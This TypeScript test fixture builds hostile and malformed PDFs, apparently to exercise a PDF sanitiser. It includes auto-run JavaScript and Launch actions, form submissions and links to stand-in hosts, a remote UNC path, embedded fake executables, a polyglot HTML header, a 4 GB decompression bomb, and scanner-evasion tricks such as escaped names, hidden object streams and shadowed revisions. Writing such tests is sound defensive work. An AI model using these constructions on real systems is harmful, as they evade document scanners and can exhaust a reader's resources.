import { createHash } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';

interface PdfParts {
  /** The entries of the catalog, in PDF syntax. `page` and `trailer` have the same syntax. */
  readonly catalog?: string;
  readonly page?: string;
  readonly trailer?: string;
  /** The whole objects. Their numbers start at 4. */
  readonly objects?: readonly string[];
  readonly pages?: number;
}

/** Writes a PDF of empty pages by hand, to control its content. Each character is one byte. */
export function writePdf(parts: PdfParts = {}): string {
  const kids = '3 0 R '.repeat(parts.pages ?? 1);
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${parts.catalog ?? ''} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${parts.pages ?? 1} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${parts.page ?? ''} >>`,
    ...(parts.objects ?? []),
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R ${parts.trailer ?? ''} >>`;
  return `${text}${table}${trailer}\nstartxref\n${text.length}\n%%EOF\n`;
}

const stream = (dict: string, data: string | Uint8Array): string => {
  const text = Buffer.from(data).toString('latin1');
  return `<< ${dict} /Length ${text.length} >>\nstream\n${text}\nendstream`;
};

/**
 * Builds an object stream: compressed objects that a search through the raw bytes does not find.
 */
const objectStream = (number: number, object: string, type = '/Type /ObjStm'): string =>
  stream(
    `${type} /N 1 /First ${`${number} 0 `.length} /Filter /FlateDecode`,
    deflateSync(`${number} 0 ${object}`),
  );

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** An action that opens an address. Behind a click it is an ordinary link. */
const LINK = '<< /S /URI /URI (https://tracker.test/opened) >>';

const PADDING = Buffer.from(
  '28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a',
  'hex',
);

function rc4(key: Uint8Array, data: Uint8Array): Uint8Array {
  const box = Uint8Array.from({ length: 256 }, (_, index) => index);
  const swap = (a: number, b: number): void => {
    [box[a], box[b]] = [box[b] ?? 0, box[a] ?? 0];
  };
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + (box[i] ?? 0) + (key[i % key.length] ?? 0)) % 256;
    swap(i, j);
  }
  let j = 0;
  return data.map((byte, index) => {
    const i = (index + 1) % 256;
    j = (j + (box[i] ?? 0)) % 256;
    swap(i, j);
    return byte ^ (box[((box[i] ?? 0) + (box[j] ?? 0)) % 256] ?? 0);
  });
}

/**
 * Builds an encrypted PDF. With `opens` it opens without a password (PDF 1.7, 7.6.4.3, revision 2).
 */
function lockedPdf(opens: boolean): string {
  const owner = Buffer.alloc(32, 'o');
  const id = Buffer.alloc(16, 'i');
  const permissions = Buffer.from([0xfc, 0xff, 0xff, 0xff]);
  const key = createHash('md5')
    .update(Buffer.concat([PADDING, owner, permissions, id]))
    .digest()
    .subarray(0, 5);
  const user = Buffer.from(opens ? rc4(key, PADDING) : Buffer.alloc(32, 'u'));
  const hex = (bytes: Buffer): string => `<${bytes.toString('hex')}>`;
  return writePdf({
    objects: [`<< /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(user)} /P -4 >>`],
    trailer: `/Encrypt 4 0 R /ID [${hex(id)} ${hex(id)}]`,
  });
}

/**
 * Builds a PDF of a few kilobytes that contains 4 GB of zeros. They are compressed twice, and the
 * inner stream repeats one block.
 */
function pdfBomb(): string {
  const block = deflateRawSync(Buffer.alloc(16 * 1024 * 1024), {
    finishFlush: constants.Z_FULL_FLUSH,
  });
  const inner = Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array<Buffer>(256).fill(block)]);
  const dict = '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]';
  return writePdf({ objects: [stream(dict, deflateSync(inner))] });
}

/**
 * Builds a PDF with a script in the first revision. The second revision replaces the object by a
 * harmless one.
 */
function scriptUnderLaterRevision(): string {
  const first = writePdf({ objects: [SCRIPT] });
  return `${first}4 0 obj\n<< /Type /Harmless >>\nendobj\n%%EOF\n`;
}

/**
 * Builds a PDF with an action in an object stream. Only the cross-reference stream names this
 * action. A harmless object with the same number follows in the file.
 */
function actionShadowedInObjectStream(action: string): string {
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  const add = (number: number, object: string): void => {
    offsets[number] = text.length;
    text += `${number} 0 obj\n${object}\nendobj\n`;
  };
  add(1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>');
  add(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  add(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>');
  add(5, objectStream(4, action));
  add(4, '<< /S /GoTo /D [3 0 R /Fit] >>');
  const start = text.length;
  const row = (type: number, field: number, last = 0): number[] => [
    type,
    field >> 8,
    field & 255,
    last,
  ];
  const plain = (number: number): number[] => row(1, offsets[number] ?? 0);
  const rows = [row(0, 0), plain(1), plain(2), plain(3), row(2, 5), plain(5), row(1, start)];
  add(6, stream('/Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R', Uint8Array.from(rows.flat())));
  return `${text}startxref\n${start}\n%%EOF\n`;
}

/**
 * Makes the cross-reference table point to an object that is hidden at another place of the file.
 */
function pointToHiddenObject(number: number, hidden: string, pdf: string): string {
  const at = pdf.indexOf(hidden);
  const [row] = pdf.matchAll(/\d{10} 00000 n (?=\n)/g).drop(number - 1);
  const start = row?.index ?? 0;
  return `${pdf.slice(0, start)}${String(at).padStart(10, '0')}${pdf.slice(start + 10)}`;
}

const HIDDEN = `4 0 obj << /S /SubmitForm /F (http://x.test) >> endobj`;

const openHidden = (objects: readonly string[], hidden = HIDDEN): string =>
  pointToHiddenObject(4, hidden, writePdf({ catalog: '/OpenAction 4 0 R', objects }));

const PICTURE = '/Type /XObject /Subtype /Image /Width 60000 /Height 60000';
const PROGRAM = `MZ${'\0'.repeat(58)}`;

/** Hostile PDFs as text of one byte for each character, by their defect. */
export const hostilePdfs = {
  script_at_open: () => writePdf({ catalog: `/OpenAction ${SCRIPT}` }),
  script_in_names: () =>
    writePdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: [SCRIPT] }),
  script_with_escaped_name: () =>
    writePdf({ page: '/AA << /O << /S /Java#53cript /J#53 (1) >> >>' }),
  script_with_lower_case_escape: () =>
    writePdf({ page: `/Annots [<< /A ${SCRIPT.replace('/JavaScript', '/#4aavaScript')} >>]` }),
  launch_with_lower_case_escapes: () =>
    writePdf({ catalog: '/#4fpenAction << /S /#4caunch /F (calc.exe) >>' }),
  submit_form_with_lower_case_escape: () =>
    writePdf({ catalog: '/OpenAction << /S /Sub#6ditForm /F (http://x.test) >>' }),
  rich_media_with_lower_case_escape: () =>
    writePdf({ page: '/Annots [<< /Subtype /Rich#4dedia >>]' }),
  form_with_lower_case_escape_in_object_stream: () =>
    writePdf({ objects: ['null', objectStream(4, '<< /#53 /Sub#6ditForm /F (http://x.test) >>')] }),
  link_with_lower_case_escape_at_open: () =>
    writePdf({ catalog: '/#4fpenAction 4 0 R', objects: [LINK] }),
  form_in_shadowed_object_stream: () =>
    actionShadowedInObjectStream('<< /S /SubmitForm /F (http://x.test) >>'),
  link_in_shadowed_object_stream: () => actionShadowedInObjectStream(LINK),
  link_in_trailer: () =>
    writePdf().replace('/Root 1 0 R', `/Root << /Pages 2 0 R /AA << /WC ${LINK} >> >>`),
  object_in_comment: () => openHidden([`<< /S /GoTo >>\n%${HIDDEN}`]),
  object_in_stream: () => openHidden(['<< /S /GoTo >>', stream('', HIDDEN)]),
  object_in_stream_with_comment: () => {
    const hidden = HIDDEN.replace(' obj', ' %\n% 1\nobj');
    return openHidden(['<< /S /GoTo >>', stream('', hidden)], hidden);
  },
  script_in_object_stream: () => writePdf({ objects: ['null', objectStream(4, SCRIPT)] }),
  script_in_untyped_object_stream: () =>
    writePdf({ objects: ['null', objectStream(4, SCRIPT, '')] }),
  script_in_object_stream_of_later_type: () =>
    writePdf({ objects: ['null', objectStream(4, SCRIPT, '/Type 6 0 R'), '/ObjStm'] }),
  object_stream_with_predictor: () =>
    writePdf({
      objects: [
        'null',
        objectStream(4, '<< >>', '/Type /ObjStm /DecodeParms << /Predictor 12 /Columns 9 >>'),
      ],
    }),
  script_unreachable: () => writePdf({ objects: ['[[[[ << /A << /S /JavaScript >> >> ]]]]'] }),
  script_under_later_revision: scriptUnderLaterRevision,
  link_at_page_open: () => writePdf({ page: `/AA << /O ${LINK} >>` }),
  link_at_document_close: () => writePdf({ catalog: '/AA 4 0 R', objects: [`<< /WC ${LINK} >>`] }),
  link_of_a_field: () =>
    writePdf({ page: `/Annots [<< /Subtype /Widget /AA << /Fo ${LINK} >> >>]` }),
  link_at_open: () => writePdf({ catalog: `/OpenAction ${LINK}` }),
  link_at_open_elsewhere: () => writePdf({ catalog: '/OpenAction 4 0 R', objects: [LINK] }),
  link_after_go_to: () =>
    writePdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${LINK} >>` }),
  link_in_object_stream: () =>
    writePdf({ objects: ['null', objectStream(4, `<< /Type /Page /AA << /O ${LINK} >> >>`)] }),
  link_under_later_revision: () =>
    `${writePdf({ objects: [`<< /AA << /O ${LINK} >> >>`] })}4 0 obj\n<< >>\nendobj\n%%EOF\n`,
  launch_action: () =>
    writePdf({ page: '/Annots [<< /Subtype /Link /A << /S /Launch /F (calc.exe) >> >>]' }),
  submit_form: () => writePdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://x.test) >>' }),
  remote_go_to: () => writePdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\x) >>' }),
  embedded_file: () =>
    writePdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('', PROGRAM)],
    }),
  attached_file: () =>
    writePdf({
      page: '/Annots [<< /Subtype /FileAttachment /FS << /F (a) /EF << /F 4 0 R >> >> >>]',
      objects: [stream('', PROGRAM)],
    }),
  xfa_form: () =>
    writePdf({ catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [stream('', '<xdp/>')] }),
  rich_media: () => writePdf({ page: '/Annots [<< /Subtype /RichMedia >>]' }),
  html_in_front: () =>
    writePdf().replace('%PDF-1.7\n', '%PDF-1.7\n%<html><script>alert(1)</script>\n'),
  zip_behind: () => `${writePdf()}PK\u0003\u0004${'z'.repeat(60)}PK\u0005\u0006${'\0'.repeat(18)}`,
  zip_behind_with_second_end: () =>
    `${writePdf()}PK\u0003\u0004PK\u0005\u0006${'\0'.repeat(18)}\n%%EOF\n`,
  program_behind: () => writePdf() + PROGRAM.repeat(40) + 'code',
  needs_password: () => lockedPdf(false),
  encrypted_without_password: () => lockedPdf(true),
  truncated: () => writePdf({ pages: 3 }).slice(0, 200),
  header_only: () => '%PDF-1.7\n%%EOF\n',
  random_content: () => `%PDF-1.7\n${'\u00aa\u0013q'.repeat(500)}\n%%EOF\n`,
  deep_nesting: () => writePdf({ objects: [`${'['.repeat(200_000)}${']'.repeat(200_000)}`] }),
  bomb: pdfBomb,
  page_tree_with_a_cycle: () =>
    writePdf().replace('/Kids [3 0 R ] /Count 1', '/Kids [2 0 R ] /Count 9'),
  page_tree_that_doubles: () =>
    writePdf({
      objects: Array.from({ length: 40 }, (_, level) => {
        const kid = level < 39 ? `${level + 5} 0 R` : '3 0 R';
        return `<< /Type /Pages /Kids [${kid} ${kid}] /Count 1 >>`;
      }),
    }).replace('/Kids [3 0 R ]', '/Kids [4 0 R ]'),
  more_pages_than_counted: () => writePdf({ pages: 3 }).replace('/Count 3', '/Count 1'),
  page_without_a_type: () => writePdf().replace('/Type /Page /Parent', '/Parent'),
  thirty_pages: () => writePdf({ pages: 30 }),
  huge_picture: () => writePdf({ objects: [stream(PICTURE, 'x')] }),
} as const satisfies Record<string, () => string>;
